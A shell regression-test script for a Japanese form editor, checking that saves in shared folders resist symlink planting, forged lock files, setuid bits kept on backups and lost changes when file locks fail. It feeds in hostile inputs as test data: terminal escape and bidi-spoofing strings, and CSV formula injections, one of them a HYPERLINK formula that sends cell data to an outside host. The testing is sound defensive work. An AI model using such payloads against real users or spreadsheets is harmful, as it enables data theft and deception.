#!/bin/sh
# The second attack on saving in shared folders (issue 9): backups and
# outputs never keep setuid bits, an output never follows a link planted
# at its name, a recovery file belongs to one document, a file system
# without locks loses no change, no planted link or lock record decides
# for a colleague, and nothing from a file reaches the terminal raw. The
# cases that need two users (uids 1001 and 1002 in the group 2000, through
# setpriv) run as root and are reported as skipped otherwise.
. "${top_srcdir:-$(cd "$(dirname "$0")/../.." && pwd)}/tests/lib.sh"

# run from tests/lib.sh, without turning on set -e.
run() {
	"$@" >"$T/.out" 2>"$T/.err"
	rc=$?
	out=$(cat "$T/.out")
	err=$(cat "$T/.err")
}

# skip NAME REASON: reported as skipped, never as passed.
skip() {
	tap_n=$((tap_n + 1))
	printf 'ok %d - %s # SKIP %s\n' "$tap_n" "$1" "$2"
}

case $HYOKA in /*) ;; *) HYOKA=$(pwd)/$HYOKA ;; esac
top_srcdir=$(cd "$top_srcdir" && pwd)
good=$top_srcdir/examples/example.yaml
root=0
if [ "$(id -u)" -eq 0 ] && command -v setpriv >/dev/null 2>&1; then
	root=1
	HYOKA_ALL=$(hyoka_for_all)
fi
chmod 755 "$T"
cd "$T" || exit 1
umask 022
# The example as a file of this folder, with the mode a clerk's document
# has: in make distcheck the source tree (and so a plain copy) is
# read-only, which colleagues other than root may not write.
cp "$good" example.yaml
chmod 644 example.yaml
good=$T/example.yaml
export ASAN_OPTIONS="${ASAN_OPTIONS:+$ASAN_OPTIONS:}verify_asan_link_order=0"

# as UID CMD...: run a command as that colleague (root only).
as() {
	u=$1
	shift
	setpriv --reuid="$u" --regid="$u" --groups=2000 env HOME="$T/home$u" \
		XDG_STATE_HOME="$T/home$u/state" "$@"
}
if [ $root -eq 1 ]; then
	for u in 1001 1002; do
		mkdir -p "home$u"
		chown "$u:$u" "home$u"
		chmod 700 "home$u"
	done
	mkdir share
	chown root:2000 share
	chmod 2770 share
fi

# --- H1. Backups and outputs never keep setuid, setgid or sticky bits -----
cp "$good" suid.yaml
chmod 6755 suid.yaml
run "$HYOKA" set suid.yaml cover.remarks "一回目"
is "$rc" 0 "set on a 6755 document works"
is "$(stat -c %a suid.yaml)" 755 "the saved document has no setuid or setgid bit"
is "$(stat -c %a suid.yaml~)" 755 "nor has its backup (FILE~)"
cp "$good" suid2.yaml
chmod 4775 suid2.yaml
ln suid2.yaml suid2-alias.yaml
run "$HYOKA" set suid2.yaml cover.remarks "二回目"
is "$rc" 0 "set on a 4775 document with a second name (written in place)"
is "$(stat -c %a suid2.yaml~)" 775 "the copied backup has no setuid bit"
echo old >out.txt
chmod 4755 out.txt
run "$HYOKA" export --to text --force -o out.txt "$good"
is "$rc" 0 "export --force over a 4755 file"
is "$(stat -c %a out.txt)" 644 "the output has no setuid bit (and follows the umask 022)"
is "$(stat -c %a out.txt~)" 755 "nor has its backup"

# --- L5. An output's mode follows the umask -------------------------------
echo old >open.txt
chmod 666 open.txt
(umask 022 && "$HYOKA" export --to text --force -o open.txt "$good" >/dev/null)
is "$(stat -c %a open.txt)" 644 "export --force over a 0666 file: the output follows the umask (0644)"
(umask 077 && "$HYOKA" export --to csv -o new.csv "$good" >/dev/null)
is "$(stat -c %a new.csv)" 600 "a new output follows the umask (077: 0600)"

# --- H2. export --force never follows a link at OUT ------------------------
echo "keep me" >victim.txt
cp victim.txt victim.before
ln -s victim.txt planted.txt
run "$HYOKA" export --to text --force -o planted.txt "$good"
is "$rc" 0 "export --force over a symbolic link"
cmp -s victim.txt victim.before
ok $? "the link's target is untouched"
[ -f planted.txt ] && [ ! -L planted.txt ]
ok $? "the link itself was replaced by the output"
grep -q '重点項目評価書' planted.txt
ok $? "which holds the export"
ln -sf victim.txt rep.txt
run "$HYOKA" import --report rep.txt -o imp2.yaml "$top_srcdir/tests/data/seed000.txt"
cmp -s victim.txt victim.before
ok $? "import --report over a symbolic link leaves its target untouched"

# --- M1. A colleague's link in a shared folder is not written through -----
if [ $root -eq 1 ]; then
	cp "$good" home1002/private.yaml
	chown 1002:1002 home1002/private.yaml
	chmod 600 home1002/private.yaml
	cp home1002/private.yaml private.before
	as 1001 ln -s "$T/home1002/private.yaml" share/doc.yaml
	run as 1002 "$HYOKA_ALL" set share/doc.yaml cover.remarks "上書き"
	is "$rc" 2 "set through a colleague's link in a group folder: exit 2"
	like "$err" 'share/doc\.yaml.*symbolic link of 1001' "naming the link and its owner"
	cmp -s home1002/private.yaml private.before
	ok $? "the victim's own file is untouched"
	as 1002 ln -s "$T/home1002/private.yaml" share/mine.yaml
	run as 1002 "$HYOKA_ALL" set share/mine.yaml cover.remarks "自分のリンク"
	is "$rc" 0 "a link of one's own in the folder is followed"
else
	skip "set through a colleague's link in a group folder" "needs root and setpriv"
fi

# --- H3. A recovery file belongs to one document --------------------------
#
# A document was deleted and a new one got its inode: the recovery file
# named by that device and inode is the old document's. Saving or
# recovering the new one neither deletes nor offers it.
cp "$good" reuse.yaml
rec=$(recovery_of reuse.yaml)
mkdir -p "$XDG_STATE_HOME/hyoka"
chmod 700 "$XDG_STATE_HOME/hyoka"
{
	printf '# hyoka recovery file of: %s\n' "$T/gone.yaml"
	printf '# base: 1 2 3 4.000000000 0000000000000001\n'
	sed 's/^  remarks: .*/  remarks: 消えた文書の入力/' "$good"
} >"$rec"
chmod 600 "$rec"
cp "$rec" rec.before
run "$HYOKA" recover reuse.yaml
is "$rc" 2 "hyoka recover of the new document does not take the old document's recovery file"
printf 'C-f\ntext:特記事項\nEnter\ntext:新\nEscape\nC-s\nC-q\n' >save.keys
run "$HYOKA" --replay save.keys reuse.yaml
is "$rc" 0 "the new document is edited and saved"
run "$HYOKA" get reuse.yaml cover.remarks
is "$out" "なし新" "with its change"
cmp -s "$rec" rec.before
ok $? "the old document's recovery file is still there, unchanged"

# --- H4. A file system without locks loses no change ----------------------
#
# An LD_PRELOAD shim makes every fcntl lock fail with ENOLCK (as on some
# network file systems); twenty writers at once must each store their
# change or exit 2, never exit 0 and lose it.
cat >nolock.c <<'C'
#define _GNU_SOURCE
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
static int call(const char *name, int fd, int cmd, void *arg)
{
	int (*r)(int, int, ...);
	if (cmd == F_OFD_SETLK || cmd == F_OFD_SETLKW || cmd == F_SETLK ||
	    cmd == F_SETLKW) {
		errno = ENOLCK;
		return -1;
	}
	r = (int (*)(int, int, ...))dlsym(RTLD_NEXT, name);
	return r(fd, cmd, arg);
}
int fcntl(int fd, int cmd, ...)
{
	va_list a;
	void *p;
	va_start(a, cmd);
	p = va_arg(a, void *);
	va_end(a);
	return call("fcntl", fd, cmd, p);
}
int fcntl64(int fd, int cmd, ...)
{
	va_list a;
	void *p;
	va_start(a, cmd);
	p = va_arg(a, void *);
	va_end(a);
	return call("fcntl64", fd, cmd, p);
}
C
if cc -shared -fPIC -o nolock.so nolock.c -ldl 2>/dev/null; then
	cp "$good" nl.yaml
	"$HYOKA" fields | awk -F '\t' '$3 == "text" || $3 == "line" { p = $1; gsub(/\*/, "1", p); print p }' |
		head -n 20 >paths
	i=0
	while read -r p; do
		i=$((i + 1))
		(
			LD_PRELOAD=$T/nolock.so "$HYOKA" set nl.yaml "$p" "値$i" >/dev/null 2>"err.$i"
			echo $? >"rc.$i"
		) &
	done <paths
	wait
	i=0
	lost=0
	stored=0
	while read -r p; do
		i=$((i + 1))
		st=$(cat "rc.$i")
		v=$("$HYOKA" get nl.yaml "$p")
		if [ "$st" -eq 0 ] && [ "$v" = "値$i" ]; then
			stored=$((stored + 1))
		elif [ "$st" -ne 2 ]; then
			lost=$((lost + 1))
		fi
	done <paths
	echo "# 20 writers without locks: $stored stored, the rest refused"
	is "$lost" 0 "no locks on the file system, 20 writers at once: no change is lost while its command exits 0"
	[ "$stored" -gt 0 ]
	ok $? "and changes get through"
	[ ! -e .nl.yaml.hyoka-lock ]
	ok $? "no lock file is left behind"
	hold_lock nl.yaml tanaka 2026-11-20T09:30
	run env LD_PRELOAD="$T/nolock.so" "$HYOKA" set nl.yaml cover.remarks "待たされる"
	release_lock
	is "$rc" 2 "without locks, the lock file of a live editor is the lock: set exits 2"
	like "$err" 'tanaka' "naming who holds it"
	sh -c 'exit 0' &
	dead=$!
	wait $dead
	printf 'tanaka %s %s 2026-11-20T09:30\n' "$(hostname)" $dead >.nl.yaml.hyoka-lock
	run env LD_PRELOAD="$T/nolock.so" "$HYOKA" set nl.yaml cover.remarks "引き継ぎ"
	is "$rc" 0 "the lock file of an ended process is taken over"
	[ ! -e .nl.yaml.hyoka-lock ]
	ok $? "and removed afterwards"
	# A planted lock file naming another user's live process (pid 1).
	printf 'mallory %s 1 2026-11-20T09:30\n' "$(hostname)" >.nl.yaml.hyoka-lock
	[ $root -eq 1 ] && chown 1001 .nl.yaml.hyoka-lock
	run env LD_PRELOAD="$T/nolock.so" "$HYOKA" set nl.yaml cover.remarks "植えられた記録"
	is "$rc" 0 "without locks, a lock file naming a process of another user than its owner's is stale"
	mkdir .nl.yaml.hyoka-lock
	run env LD_PRELOAD="$T/nolock.so" "$HYOKA" set nl.yaml cover.remarks "x"
	is "$rc" 2 "without locks, a folder at the lock file's name: set refuses (exit 2)"
	like "$err" 'cannot be locked.*\.nl\.yaml\.hyoka-lock cannot be created \(Is a directory\)' "saying why, naming the lock file"
	rmdir .nl.yaml.hyoka-lock
	if [ $root -eq 1 ]; then
		# A colleague's lock file only they may read (umask 077): held
		# by someone who cannot be named, never removed as garbled.
		cp "$good" share/nl.yaml
		chown 1001:2000 share/nl.yaml
		chmod 660 share/nl.yaml
		printf 'suzuki %s 1 2026-11-20T09:30\n' "$(hostname)" >share/.nl.yaml.hyoka-lock
		chown 1001:2000 share/.nl.yaml.hyoka-lock
		chmod 600 share/.nl.yaml.hyoka-lock
		as 1002 env LD_PRELOAD="$T/nolock.so" "$HYOKA_ALL" set share/nl.yaml cover.remarks "割り込み" >/dev/null 2>err.unread
		is $? 2 "without locks, a colleague's lock file that cannot be read: set waits, then exits 2"
		like "$(cat err.unread)" 'in use by another program' "saying the file is in use"
		[ -f share/.nl.yaml.hyoka-lock ] && [ "$(stat -c %u share/.nl.yaml.hyoka-lock)" = 1001 ]
		ok $? "the colleague's lock file is left in place"
		rm -f share/nl.yaml share/.nl.yaml.hyoka-lock
	else
		skip "a colleague's lock file that cannot be read" "needs root and setpriv"
		skip "saying the file is in use" "needs root and setpriv"
		skip "the colleague's lock file is left in place" "needs root and setpriv"
	fi
else
	ok 1 "cc builds the LD_PRELOAD shim (gcc is in quickstart.sh)"
fi

# --- M3. A lock record decides nothing; a reader locks nobody out ---------
cp "$good" planted.yaml
sleep 30 &
sleeper=$!
printf 'mallory %s %s 2026-11-20T09:30\n' "$(hostname)" $sleeper >.planted.yaml.hyoka-lock
run "$HYOKA" set planted.yaml cover.remarks "書けた"
is "$rc" 0 "a planted record naming a live process that holds no lock does not block set"
printf 'C-f\ntext:特記事項\nEnter\ntext:編集\nEscape\nC-s\nC-q\n' >edit.keys
run "$HYOKA" --replay edit.keys planted.yaml
is "$rc" 0 "nor the editor"
run "$HYOKA" get planted.yaml cover.remarks
is "$out" "書けた編集" "both changes are stored"
kill $sleeper 2>/dev/null
wait $sleeper 2>/dev/null
if [ $root -eq 1 ]; then
	# A colleague who may not write a 0644 file plants a record naming
	# another computer beside it.
	cp "$good" share/plant.yaml
	chown 1002:2000 share/plant.yaml
	chmod 644 share/plant.yaml
	as 1001 sh -c 'printf "mallory elsewhere.example 1 2026-11-20T09:30\n" >share/.plant.yaml.hyoka-lock'
	run as 1002 "$HYOKA_ALL" set share/plant.yaml cover.remarks "所有者の保存"
	is "$rc" 0 "a record planted by a colleague who may not write the file does not lock its owner out"
else
	skip "a record planted by a colleague who may not write the file" "needs root and setpriv"
fi
if [ $root -eq 1 ] && command -v tmux >/dev/null 2>&1; then
	mkdir ro
	chown 1001:2000 ro
	chmod 2750 ro
	cp "$good" ro/d.yaml
	chown 1001:2000 ro/d.yaml
	chmod 664 ro/d.yaml
	tmux -L "sec$$" -f /dev/null new-session -d -x 100 -y 30 \
		"setpriv --reuid=1002 --regid=1002 --groups=2000 env HOME=$T/home1002 XDG_STATE_HOME=$T/home1002/state LANG=C.UTF-8 TERM=xterm-256color '$HYOKA_ALL' '$T/ro/d.yaml'; sleep 30"
	w=0
	while ! tmux -L "sec$$" capture-pane -p -t 0 2>/dev/null | grep -q 'read-only' && [ $w -lt 100 ]; do
		sleep 0.1
		w=$((w + 1))
	done
	scr=$(tmux -L "sec$$" capture-pane -p -t 0 2>/dev/null)
	like "$scr" 'read-only: you may not create files' "a colleague who may not create files in the folder opens it read-only, saying why"
	run as 1001 "$HYOKA_ALL" set ro/d.yaml cover.remarks "所有者"
	tmux -L "sec$$" kill-server 2>/dev/null
	is "$rc" 0 "meanwhile the owner's set is not locked out"
	[ ! -e ro/.d.yaml.hyoka-lock ]
	ok $? "the reader wrote no lock record"
else
	skip "a colleague who may not create files in the folder opens it read-only" "needs root, setpriv and tmux"
fi

# --- M2. Nothing from a file reaches the terminal raw ---------------------
ESC=$(printf '\033')
RLO=$(printf '\342\200\256')
# raw NAME FILE: FILE holds no ESC, BEL or bidirectional control (U+202A-E,
# U+2066-9) as raw bytes.
raw() {
	if LC_ALL=C grep -q "$ESC\|$(printf '\007')\|$(printf '\342\200[\252-\256]')\|$(printf '\342\201[\246-\251]')" "$2"; then
		ok 1 "$1"
		od -c "$2" | head -5 | sed 's/^/# /'
	else
		ok 0 "$1"
	fi
}
cat >lform.yaml <<F
form: tiny
title: T
versions:
  - id: V1
    label: v1
default_version: V1
items:
  - key: a
    type: text
    label: "A\e]0;PWNED\a\u202Egnp.exe"
    ref: A
F
run "$HYOKA" --form-file lform.yaml fields
printf '%s' "$out" >fields.out
raw "fields prints a form label without its escape sequences and bidi controls" fields.out
like "$out" '\\e\]0;PWNED\\x07\\u202Egnp' "it shows them as escapes"
bad=$(printf 'r\342\200\256lmx.yaml')
cp "$good" "$bad"
run "$HYOKA" export --to text "$bad"
printf '%s%s' "$out" "$err" >exp.out
raw "export names a file with a bidi control escaped" exp.out
like "$out" 'r\\u202Elmx' "as \\u202E"
bad2=$(printf 'e\033[2Jx.yaml')
run "$HYOKA" new "$bad2"
printf '%s%s' "$out" "$err" >new.out
raw "new names a file with an escape sequence escaped" new.out
if command -v script >/dev/null 2>&1; then
	cp "$good" tty.yaml
	"$HYOKA" set tty.yaml cover.remarks "$(printf 'x\342\200\256y')" >/dev/null
	script -q -e -c "'$HYOKA' export --to text -o - tty.yaml" /dev/null >tty.out 2>&1 </dev/null
	raw "export -o - on a terminal sends no bidi control raw" tty.out
	grep -q 'x\\u202Ey' tty.out
	ok $? "it shows it escaped"
	"$HYOKA" export --to text -o - tty.yaml >pipe.out
	grep -q "x${RLO}y" pipe.out
	ok $? "into a pipe the bytes stay"
	cp "$good" lock.yaml
	hold_lock lock.yaml "$(printf 'm\033]0;PWNED\007\342\200\256')" "$(printf '\033[2J')"
	printf 'q\n' >q.in
	script -q -e -c "'$HYOKA' lock.yaml" /dev/null <q.in >lockq.out 2>&1
	release_lock
	grep -q 'PWNED' lockq.out
	ok $? "the lock question shows the holder's record"
	raw "with its escape sequences and bidi controls escaped" lockq.out
else
	skip "export -o - and the lock question on a terminal" "needs script (util-linux)"
fi

# --- M4. CSV: no cell is taken for a formula ------------------------------
cp "$good" f.yaml
"$HYOKA" set f.yaml cover.remarks '=HYPERLINK("http://x/?"&A1,"点検")' >/dev/null
"$HYOKA" set f.yaml cover.org -- '-2+3' >/dev/null
"$HYOKA" set f.yaml cover.name '@SUM(1)' >/dev/null
run "$HYOKA" export --to csv -o f.csv f.yaml
is "$rc" 0 "export --to csv of values that start like formulas"
grep -q "\"'=HYPERLINK(\"\"http" f.csv
ok $? "a value starting with = gets a ' in front"
grep -q "\"'-2+3\"" f.csv
ok $? "so does one starting with -"
grep -q "\"'@SUM(1)\"" f.csv
ok $? "and one starting with @"
grep -q '"=' f.csv
[ $? -ne 0 ]
ok $? "no field starts with ="

# --- M6. A long chain of show conditions is refused at load ---------------
{
	printf 'form: tiny\ntitle: T\nversions:\n  - id: V1\n    label: v1\ndefault_version: V1\nitems:\n'
	printf '  - {key: i0, type: text, label: L0, ref: R0}\n'
	awk 'BEGIN { for (i = 1; i < 5000; i++) printf "  - {key: i%d, type: text, label: L, ref: R%d, show: '\''filled(i%d)'\''}\n", i, i, i - 1 }'
} >chain.yaml
printf 'hyoka: 1\nform: tiny\nform_version: V1\ni0: a\n' >chaindoc.yaml
# In 512 KiB of stack: a recursion as deep as the chain overflowed it (139).
run sh -c 'ulimit -s 512 2>/dev/null; exec "$@"' sh "$HYOKA" --form-file chain.yaml check chaindoc.yaml
is "$rc" 2 "5,000 chained show conditions are refused, in 512 KiB of stack"
like "$err" '^chain\.yaml:[0-9]+:[0-9]+: .*chain of more than 200 conditions' "with the file, line and column"
{
	printf 'form: tiny\ntitle: T\nversions:\n  - id: V1\n    label: v1\ndefault_version: V1\nitems:\n'
	printf "  - {key: a, type: text, label: A, ref: A, show: 'filled(b)'}\n"
	printf "  - {key: b, type: text, label: B, ref: B, show: 'filled(a)'}\n"
} >cycle.yaml
run "$HYOKA" --form-file cycle.yaml fields
is "$rc" 2 "two show conditions that read each other are refused"
like "$err" '^cycle\.yaml:[0-9]+:[0-9]+: .*depends on itself' "as a cycle, with the file, line and column"

# --- M7. Writing into a file only after its backup is on disk -------------
cp "$good" inp.yaml
ln inp.yaml inp-alias.yaml
mkdir inp.yaml~
cp inp.yaml inp.before
run "$HYOKA" set inp.yaml cover.remarks "バックアップなし"
is "$rc" 2 "a file written in place (it has two names) whose backup cannot be made: set exits 2"
like "$err" 'inp\.yaml~ could not be made' "saying the backup could not be made, naming it"
cmp -s inp.yaml inp.before
ok $? "the file is untouched"
printf 'C-f\ntext:特記事項\nEnter\ntext:画面\nEscape\nC-s\n' >inp.keys
"$HYOKA" --replay inp.keys --dump inp.screen inp.yaml >/dev/null 2>&1
grep -q 'inp\.yaml~ could not be made' inp.screen && grep -q 'Save to another file: ' inp.screen
ok $? "the editor's Ctrl-S shows why above its offer of another file"
rmdir inp.yaml~
run "$HYOKA" set inp.yaml cover.remarks "バックアップあり"
is "$rc" 0 "with room for the backup it is written in place"
cmp -s inp.yaml~ inp.before
ok $? "after its old content was kept as FILE~"
[ "$(stat -c %i inp.yaml)" = "$(stat -c %i inp-alias.yaml)" ]
ok $? "and its other name still shows the same file"

# --- L3, L4. A backup that cannot be made is not silent -------------------
long=$(printf '%0250d' 0 | tr 0 a).yaml
cp "$good" "$long"
run "$HYOKA" set "$long" cover.remarks "長い名前"
is "$rc" 0 "a document with a 255-byte name is saved"
like "$err" 'could not be kept as .*~ \(File name too long\)' "saying that its backup (NAME~, 256 bytes) could not be kept"
run "$HYOKA" export --to text --force -o "$long" "$good"
like "$err" 'could not be kept as' "export --force says so too"
cp "$good" "$long"
printf 'C-f\ntext:特記事項\nEnter\ntext:画面\nEscape\nC-s\n' >longsave.keys
"$HYOKA" --replay longsave.keys --size 200x24 --dump long.screen "$long" >/dev/null 2>&1
grep -q 'could not be kept as' long.screen
ok $? "and the editor's Ctrl-S says so on the screen"
if [ $root -eq 1 ]; then
	mkdir sticky
	chmod 1777 sticky
	cp "$good" sticky/d.yaml
	chown 1002:1002 sticky/d.yaml
	echo stale >sticky/d.yaml~
	chown 1001:1001 sticky/d.yaml~
	run as 1002 "$HYOKA_ALL" set sticky/d.yaml cover.remarks "スティッキー"
	is "$rc" 0 "in a sticky folder, a document whose FILE~ is another user's is saved"
	like "$err" "could not be kept as .*d\.yaml~.*another user's file, ask them to remove it" "saying why there is no backup and what to do"
	is "$(cat sticky/d.yaml~)" stale "the other user's file is left alone"
else
	skip "in a sticky folder, another user's FILE~ is reported" "needs root and setpriv"
fi

# --- L2. Temporary files left by a killed save are cleaned up -------------
mkdir sweep
cp "$good" sweep/d.yaml
echo partial >sweep/.hyoka-AbC123
touch -d '2 hours ago' sweep/.hyoka-AbC123
echo fresh >sweep/.hyoka-XyZ789
run "$HYOKA" set sweep/d.yaml cover.remarks "掃除"
is "$rc" 0 "set in a folder with temporary files left over"
[ ! -e sweep/.hyoka-AbC123 ]
ok $? "one's own temporary file older than 10 minutes is removed"
[ -e sweep/.hyoka-XyZ789 ]
ok $? "a recent one (a save may be under way) stays"

# --- L1. A batch read from standard input holds no lock while it waits ----
cp "$good" wait.yaml
mkfifo batch.fifo
("$HYOKA" set wait.yaml --batch - <batch.fifo >/dev/null 2>&1; echo $? >batch.rc) &
exec 7>batch.fifo
sleep 0.3
run "$HYOKA" set wait.yaml cover.org "先に保存"
is "$rc" 0 "while a batch waits for its input, another set of the file is not locked out"
printf 'cover.remarks\tバッチ\n' >&7
exec 7>&-
wait
is "$(cat batch.rc)" 0 "the batch is applied when its input ends"
is "$("$HYOKA" get wait.yaml cover.org) $("$HYOKA" get wait.yaml cover.remarks)" "先に保存 バッチ" \
	"both changes are in the file"

# --- L6. A file only read is not said to be "not changed" -----------------
cp "$good" based.yaml
sed -i '/^form_version:/a baseline:\n  file: /dev/null' based.yaml
run "$HYOKA" check based.yaml
like "$err" 'baseline /dev/null cannot be read' "a baseline that cannot be read is named"
unlike "$err" '/dev/null was not changed' "and not said to be 'not changed' (it is only read)"

# --- L6. No recovery file possible: said when the editor opens ------------
cp "$good" unprot.yaml
echo "not a folder" >state-file
printf 'Down\n' >down.keys
XDG_STATE_HOME=$T/state-file "$HYOKA" --replay down.keys --dump unprot.screen unprot.yaml >/dev/null 2>&1
grep -q 'NOT PROTECTED: the recovery file cannot be written' unprot.screen
ok $? "when no recovery file can be written, the editor says so before any typing"

# --- L6. A file held under another name: the message says so -------------
mkdir alias
cp "$good" alias/doc.yaml
ln alias/doc.yaml alias/other-name.yaml
hold_lock alias/doc.yaml tanaka 2026-11-20T09:30
run "$HYOKA" set alias/other-name.yaml cover.remarks "別名から"
release_lock
is "$rc" 2 "set on a hard link of a file an editor holds: exit 2"
like "$err" 'under another name \(a link\)' "the message says it may be open under another name"

# --- Written in place: set, set --batch and accept say so -----------------
# A file that cannot be replaced without losing its owner, its group or its
# other names is written into instead; the command says so in one line of
# Japanese, naming the backup, and still exits 0.
jp_ok=0
locale -a 2>/dev/null | grep -qix 'ja_JP\.utf-\{0,1\}8' && jp_ok=1
ok $((1 - jp_ok)) "the ja_JP.UTF-8 locale is installed (run ./quickstart.sh)"
inplace_tail='置き換えずにそのファイルへ直接書き込みました。前の版は'
cp "$good" two.yaml
ln two.yaml two-alias.yaml
cp two.yaml two.before
run env LC_ALL=ja_JP.UTF-8 "$HYOKA" set two.yaml cover.remarks "二つの名前"
is "$rc" 0 "set on a file with a second name (written in place) exits 0"
is "$err" "hyoka: two.yaml にはほかの名前(ハードリンク)があるので、別々のファイルにならないよう、$inplace_tail two.yaml~ にあります" \
	"and says in one line that it wrote in place because of the second name, naming the backup"
cmp -s two.yaml~ two.before
ok $? "the backup it names holds the previous version"
cp "$good" mine.yaml
run env LC_ALL=ja_JP.UTF-8 "$HYOKA" set mine.yaml cover.remarks "自分のファイル"
is "$rc:$err" "0:" "a file that is replaced says nothing"
if [ $root -eq 1 ]; then
	name1001=$(getent passwd 1001 | cut -d: -f1)
	name1001=${name1001:-1001}
	group1001=$(getent group 1001 | cut -d: -f1)
	group1001=${group1001:-1001}
	cp "$good" share/col.yaml
	chown 1001:2000 share/col.yaml
	chmod 660 share/col.yaml
	cp share/col.yaml col.before
	said="hyoka: share/col.yaml は $name1001 のファイルなので、持ち主が変わらないよう、$inplace_tail share/col.yaml~ にあります"
	run as 1002 env LC_ALL=ja_JP.UTF-8 "$HYOKA_ALL" set share/col.yaml cover.remarks "同僚が追記"
	is "$rc" 0 "set on a colleague's file in a group folder exits 0"
	is "$err" "$said" "and says in one line that it wrote in place to keep the owner, naming the backup"
	is "$(stat -c '%u:%g %a' share/col.yaml)" "1001:2000 660" "the file kept its owner, group and mode"
	cmp -s share/col.yaml~ col.before
	ok $? "the backup it names holds the previous version"
	printf 'cover.remarks\tバッチで追記\n' >col.batch
	run as 1002 env LC_ALL=ja_JP.UTF-8 "$HYOKA_ALL" set share/col.yaml --batch "$T/col.batch"
	is "$rc:$err" "0:$said" "set --batch says the same"
	run as 1002 "$HYOKA_ALL" get share/col.yaml cover.remarks
	is "$out" "バッチで追記" "and its value is in the file"
	cp "$top_srcdir/tests/data/seed002.yaml" share/acc.yaml
	chown 1001:2000 share/acc.yaml
	chmod 660 share/acc.yaml
	run as 1002 env LC_ALL=ja_JP.UTF-8 "$HYOKA_ALL" accept share/acc.yaml I-5-① R12 "中間サーバーは別のシステムで接続する"
	is "$rc:$err" "0:hyoka: share/acc.yaml は $name1001 のファイルなので、持ち主が変わらないよう、$inplace_tail share/acc.yaml~ にあります" \
		"accept says the same"
	cp "$good" share/grp.yaml
	chown 1002:1001 share/grp.yaml
	chmod 664 share/grp.yaml
	run as 1002 env LC_ALL=ja_JP.UTF-8 "$HYOKA_ALL" set share/grp.yaml cover.remarks "グループ"
	is "$rc:$err" "0:hyoka: share/grp.yaml のグループ $group1001 にあなたは入っていないので、グループが変わらないよう、$inplace_tail share/grp.yaml~ にあります" \
		"one's own file in a group one is not in: written in place to keep the group, and said so"
	is "$(stat -c '%u:%g' share/grp.yaml)" "1002:1001" "the file kept its group"
	echo "前の書き出し" >share/col.txt
	chown 1001:2000 share/col.txt
	chmod 660 share/col.txt
	run as 1002 env LC_ALL=ja_JP.UTF-8 "$HYOKA_ALL" export "$good" --to text -o share/col.txt --force
	is "$rc:$err" "0:hyoka: share/col.txt は $name1001 のファイルなので、持ち主が変わらないよう、$inplace_tail share/col.txt~ にあります" \
		"export --force over a colleague's file says the same"
	is "$(stat -c '%u:%g %a' share/col.txt)" "1001:2000 660" "the export kept the file's owner, group and mode"
else
	for n in "set on a colleague's file in a group folder says it wrote in place" \
		"set --batch says the same" "accept says the same" \
		"one's own file in a group one is not in: written in place, and said so" \
		"export --force over a colleague's file says the same" \
		"the export kept the file's owner, group and mode"; do
		skip "$n" "needs root and setpriv"
	done
fi

done_testing
